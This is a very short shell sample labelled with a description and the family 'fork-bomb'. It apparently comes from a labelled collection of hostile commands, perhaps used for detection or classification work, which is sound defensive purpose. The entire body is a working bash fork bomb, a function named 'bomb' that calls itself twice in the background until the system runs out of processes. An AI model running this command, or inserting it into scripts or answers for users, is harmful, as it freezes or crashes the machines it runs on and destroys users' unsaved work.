# description: A fork bomb with the function renamed to bomb.
# family: fork-bomb
bomb() { bomb | bomb & }; bomb
